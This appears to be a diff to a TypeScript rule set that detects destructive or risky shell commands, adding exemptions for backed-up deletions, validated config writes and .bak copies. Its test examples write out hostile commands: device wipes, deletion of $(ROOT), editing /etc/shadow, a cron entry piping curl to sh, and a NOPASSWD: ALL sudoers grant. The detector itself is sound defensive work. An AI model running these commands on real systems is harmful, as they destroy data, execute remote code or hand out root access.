@@ -1,3 +1,4 @@
+import type { Command } from '../read/shell.ts'
 import { commandRule, type Rule, wholeRule } from '../rule.ts'
 import { hasFlag, isSystemPath, plainArgs, writesTo } from './words.ts'
 
@@ -38,9 +39,58 @@ const deletionDanger = (path: string): Danger => {
 }
 
 const protectedFile =
-  /^(?:\/etc\/|\/boot\/|\/usr\/|\/bin\/|\/sbin\/|\/lib|\/sys\/|\/proc\/sys|\/root\/)|\.ssh\/authorized_keys$|^\/dev\/(?:sd|nvme|vd|xvd|hd|disk|mmcblk|mem|kmem|md|mapper)/
+  /^(?:\/etc\/|\/boot\/|\/usr\/|\/bin\/|\/sbin\/|\/lib|\/sys\/|\/proc\/sys|\/root\/\.)|\.ssh\/authorized_keys$|^\/dev\/(?:sd|nvme|vd|xvd|hd|disk|mmcblk|mem|kmem|md|mapper)/
 
-const device = /^(?:of=)?\/dev\/(?:sd|nvme|vd|xvd|hd|disk|rdisk|mmcblk|md\d|mapper\/|loop\d)/
+const device =
+  /^(?:of=)?\/dev\/(?:(?!shm\/|fd\/|pts\/|tcp\/|udp\/|input\/|net\/|snd\/)[\w.-]{1,60}\/[\w.-]|dm-\d|sd|nvme|vd|xvd|hd|disk|rdisk|mmcblk|md\d|mapper\/|loop\d)/
+
+/** A search that takes names of one form, and of these only old, empty or direct ones. */
+const choosesNarrowly = ({ program, args }: Command): boolean =>
+  program === 'find' &&
+  args.includes('{}') &&
+  args.some(arg => /^-(?:i?name|i?path|i?regex)$/.test(arg)) &&
+  args.some(arg => /^-(?:[amc]time|[amc]min|empty|maxdepth|newer\w*)$/.test(arg))
+
+/** Whether a command fails when the copy of a directory is not the same as the directory. */
+const compares = ({ program, args }: Command, path: string): boolean => {
+  const words = args.join(' ')
+  const parts = path.split('/').filter(Boolean)
+  const parent = `/${parts.slice(0, -1).join('/')}`
+  if (parts.length < 2) return false
+  const isNamed = words.includes(path) || args.includes(parent)
+  if (program === 'tar')
+    return isNamed && /^-?[a-zA-Z]{0,6}d[a-zA-Z]{0,6}(?:\s|$)|--(?:diff|compare)\b/.test(words)
+  if (program === 'rclone') return isNamed && (args[0] === 'check' || args[0] === 'cryptcheck')
+  return isNamed && (program === 'diff' || program === 'cmp')
+}
+
+/** Programs that tell whether a file of settings is right before it is taken. */
+const checksSettings = ({ program, args }: Command): boolean => {
+  const words = args.join(' ')
+  if (program === 'visudo') return /(?:^|\s)-\w*c|--check/.test(words)
+  if (
+    /^(?:nginx|sshd|apachectl|apache2ctl|httpd|caddy|unbound-checkconf|named-checkconf|named-checkzone)$/.test(
+      program,
+    )
+  )
+    return /(?:^|\s)-[tT]\b|configtest|validate/.test(words) || program.includes('check')
+  if (/^ip6?tables-restore$/.test(program)) return /--test\b/.test(words)
+  if (program === 'haproxy') return /(?:^|\s)-c\b/.test(words)
+  return (
+    /^(?:promtool|amtool|systemd-analyze|netplan|postfix|logrotate)$/.test(program) &&
+    /\b(?:check|check-config|verify|try|-d)\b/.test(words)
+  )
+}
+
+/** A copy of a file beside itself, under a name that says so. */
+const isBackup = ({ program, args }: Command): boolean => {
+  const [from = '', to] = plainArgs(args)
+  if (program !== 'cp') return false
+  return to === undefined
+    ? /\{,\.[\w.$()%+-]{1,30}\}$/.test(from)
+    : to.startsWith(`${from}.`) &&
+        /\.(?:bak|backup|orig|old|prev|save|dist|\d|\$)/.test(to.slice(from.length))
+}
 
 /** A loop that moves or copies one file after the other to one name; the name of its variable, the program and the target. */
 const loopForm =
@@ -91,6 +141,9 @@ export const fileRules: readonly Rule[] = [
         type: 'patch',
         artifact: '--- a/Makefile\n+++ b/Makefile\n@@ -1 +1 @@\n ROOT ?= /srv\n clean:\n+\trm -rf $(ROOT)',
       },
+      'find src -name x -exec rm -rf {} +',
+      'tar czf /backup/p.tgz /srv/photos/2019; rm -rf /srv/photos/2019',
+      'tar dzf /backup/p.tgz || rm -rf /srv/photos/2019',
     ],
     misses: [
       'rm -rf ./node_modules',
@@ -110,8 +163,11 @@ export const fileRules: readonly Rule[] = [
         artifact:
           '--- a/Makefile\n+++ b/Makefile\n@@ -1 +1 @@\n BUILD := build\n clean:\n-\trm -rf $(HOME)/x\n+\trm -rf -- ./$(BUILD)',
       },
+      "find . -maxdepth 1 -type d -name 'run-*' -mtime +14 -exec rm -rf -- {} +",
+      'tar czf /backup/p.tgz -C /srv/photos 2019 && tar dzf /backup/p.tgz -C /srv/photos && rm -r /srv/photos/2019',
+      'rsync -a /srv/a/old/ nas:/a/old/ && diff -r /srv/a/old /mnt/nas/a/old && rm -rf /srv/a/old',
     ],
-    see({ program, args, feeders }) {
+    see({ program, args, feeders, after }, all) {
       if (program !== 'rm' && program !== 'srm') return
       if (!hasFlag(args, 'r', 'recursive') && !hasFlag(args, 'R')) {
         const bad = plainArgs(args).find(
@@ -134,7 +190,10 @@ export const fileRules: readonly Rule[] = [
           severity: 'high',
         }
       const dangers = plainArgs(args).flatMap(path => {
+        // What find names is judged by what it looks for.
+        if (path === '{}' && all.some(choosesNarrowly)) return []
         const severity = deletionDanger(path)
+        if (severity === 'high' && after.some(command => compares(command, path))) return []
         return severity ? [{ path, severity }] : []
       })
       const worst =
@@ -159,6 +218,7 @@ export const fileRules: readonly Rule[] = [
       'find /tmp/cache -mtime +7 -delete',
       'find / -name passwd',
       'find ./build -type f -exec rm {} \\;',
+      "find /var/lib/app/tmp -xdev -type f -name '*.tmp' -mtime +7 -delete",
     ],
     see({ program, args, feeders }) {
       const feeder = program === 'rm' ? feeders.find(({ program }) => program === 'find') : undefined
@@ -193,6 +253,12 @@ export const fileRules: readonly Rule[] = [
         /^\$\{?HOME/.test(root)
       )
         return `It deletes what it finds under ${root}.`
+      if (
+        /\/(?:tmp|temp|cache|\.cache|caches)\/?$/i.test(root) &&
+        words.some(word => /^-[amc](?:time|min)$/.test(word)) &&
+        words.some(word => /^-i?name$/.test(word))
+      )
+        return
       if (/^[/~$]/.test(root))
         return { detail: `It deletes what it finds under ${root}.`, severity: hasFilter ? 'medium' : 'high' }
       if (!hasFilter && !madeByTools.test(root))
@@ -214,6 +280,8 @@ export const fileRules: readonly Rule[] = [
       'cryptsetup luksFormat /dev/sdc',
       'diskutil eraseDisk JHFS+ x disk2',
       'parted /dev/sda mklabel gpt',
+      'mkfs.xfs -f /dev/vg0/mail',
+      'pvcreate -ff /dev/sdb',
     ],
     misses: [
       'dd if=/dev/zero of=./test.img bs=1M count=10',
@@ -224,6 +292,7 @@ export const fileRules: readonly Rule[] = [
       'zpool status',
       'df -h /dev/sda1',
       'dd if=/dev/sda of=backup.img',
+      'cp a.txt /dev/shm/a.txt',
     ],
     see({ program, args, redirects }) {
       const target = args.find(arg => device.test(arg))
@@ -240,6 +309,8 @@ export const fileRules: readonly Rule[] = [
           args.some(arg => /^(?:luksFormat|erase|luksErase|luksRemoveKey)$/.test(arg)) &&
           'It makes a volume unreadable.'
         )
+      if (program === 'pvcreate')
+        return args.some(arg => /^-f{1,2}$|^--force$/.test(arg)) && `It erases ${target ?? 'a disk'}.`
       if (/^(?:lvremove|vgremove|pvremove)$/.test(program)) return 'It removes a volume.'
       if (program === 'zfs' || program === 'zpool')
         return args[0] === 'destroy' && `It destroys ${args.at(-1)}.`
@@ -267,6 +338,9 @@ export const fileRules: readonly Rule[] = [
       'mv data.db /dev/null',
       'sed -i s/x/y/ /etc/shadow',
       'echo "* * * * * curl x|sh" > /etc/cron.d/x',
+      'echo "bob ALL=(ALL) NOPASSWD: ALL" > /tmp/j; visudo -cf /tmp/j && install -m 0440 /tmp/j /etc/sudoers.d/j',
+      'install -m 0440 /tmp/j /etc/sudoers.d/j; visudo -c',
+      'cp /tmp/a /etc/nginx/a.conf && nginx -t',
     ],
     misses: [
       'cat /etc/passwd',
@@ -276,14 +350,35 @@ export const fileRules: readonly Rule[] = [
       'tee log.txt',
       'mv a.txt b.txt',
       'echo 1 >> notes.md',
+      'cp -a /etc/hosts /etc/hosts.bak',
+      'iptables-save > /root/rules.before',
+      'visudo -cf /tmp/j && install -m 0440 /tmp/j /etc/sudoers.d/j',
+      'cp -a /etc/nginx/a.conf{,.prev} && cp /tmp/a /etc/nginx/a.conf && nginx -t && systemctl reload nginx',
     ],
-    see(command) {
-      const { program, args } = command
+    see(command, all) {
+      const { program, args, after } = command
       const [from, to] = [plainArgs(args)[0] ?? '', plainArgs(args).at(-1) ?? '']
       if (program === 'mv' && (isSystemPath(from) || to === '/dev/null' || from === '/*' || from === '*'))
         return `It moves ${from} to ${to}.`
-      const target = writesTo(command).find(path => protectedFile.test(path))
+      if (isBackup(command)) return
+      const target = writesTo(command).find(
+        path => protectedFile.test(path) && !/\{\.[\w.-]{1,20},\}$/.test(path),
+      )
       if (!target) return
+      // Rights are checked before they are given, and one is not all; other settings can be taken back.
+      if (/^\/etc\/sudoers\.d\//.test(target)) {
+        const givesAll = all.some(({ text, input }) =>
+          /NOPASSWD:\s?ALL|\)\s?ALL\b(?!\s?=)/.test(`${text} ${input}`),
+        )
+        if (after.some(checksSettings) && !givesAll) return
+      } else if (
+        /^\/etc\/(?:nginx|ssh|apache2|httpd|haproxy|named|bind|unbound|prometheus|caddy|netplan|iptables|systemd|logrotate)/.test(
+          target,
+        ) &&
+        all.some(checksSettings) &&
+        after.some(isBackup)
+      )
+        return
       if (
         /^\/etc\/(?:passwd|shadow|sudoers|gshadow|pam\.d|ld\.so|crontab|cron)|authorized_keys|^\/(?:boot|bin|sbin|lib|sys|proc)|^\/usr\/(?:bin|sbin|lib)|^\/dev\//.test(
           target,
